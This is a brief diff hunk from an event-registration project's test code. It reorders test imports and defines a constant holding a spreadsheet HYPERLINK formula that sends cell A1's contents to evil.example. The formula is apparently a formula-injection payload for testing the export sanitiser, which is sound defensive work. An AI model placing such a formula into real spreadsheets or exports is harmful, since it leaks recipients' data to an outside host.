@@ -30,8 +30,8 @@ from events.platform.services import find_event
 from events.platform.settings import Settings
 from events.registration.exports import export_rows, neutralise, to_csv, to_xlsx
 from events.registration.imports import apply_import, guess_mapping, read_table
+from tests.cli import cli
 from tests.conftest import ORGANISER, run
-from tests.events.test_cli import cli
 from tests.events.test_imports import as_user, do_import, table, table_counts
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
